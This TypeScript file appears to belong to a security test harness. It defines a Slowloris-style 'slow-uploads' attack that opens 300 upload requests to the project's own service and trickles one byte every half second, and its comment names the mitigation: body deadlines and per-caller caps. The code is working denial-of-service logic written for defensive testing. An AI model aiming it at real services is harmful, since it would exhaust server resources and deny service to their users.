import { request } from 'node:http';
import type { Attack } from '../attack.ts';
import type { Caller, Reply } from '../caller.ts';

/**
 * Three hundred uploads that send a byte now and then and never end (Slowloris). A mend gives a body a deadline, and each caller few
 * places for unfinished ones.
 */
export const slowUploads: Attack = {
  name: 'slow-uploads',
  finding: 'kind of security 6',
  prepare: async ({ newcomer }) => {
    const { team, writer } = await newcomer('Slow');
    return {
      fire: async (answered, until) => {
        const all = Array.from({ length: 300 }, (_, number) =>
          drip(writer, team.id, number, until).then(answered),
        );
        await Promise.all(all);
      },
    };
  },
};

function drip(writer: Caller, teamId: string, number: number, until: AbortSignal): Promise<Reply> {
  const start = performance.now();
  const path = `/uploads?${new URLSearchParams({ teamId, fileName: `${number}.csv` })}`;
  const headers = {
    ...writer.headers,
    'content-type': 'application/octet-stream',
    'content-length': '1000000',
  };
  return new Promise((resolve) => {
    const end = (status: number, code: string | null) => {
      clearInterval(timer);
      sent.destroy();
      resolve({ status, code, text: '', cookies: [], milliseconds: performance.now() - start });
    };
    const sent = request(new URL(path, writer.origin), {
      method: 'POST',
      headers,
      localAddress: writer.address,
    });
    const timer = setInterval(() => sent.write('x'), 500);
    sent.on('response', (response) => {
      let text = '';
      response.setEncoding('utf8').on('data', (chunk: string) => {
        text += chunk;
      });
      response.on('end', () =>
        end(response.statusCode ?? 0, /"code":\s*"([A-Z_]+)"/.exec(text)?.[1] ?? null),
      );
    });
    sent.on('error', (fault) => end(0, (fault as { code?: string }).code ?? fault.message));
    until.addEventListener('abort', () => end(0, 'never ended'));
  });
}
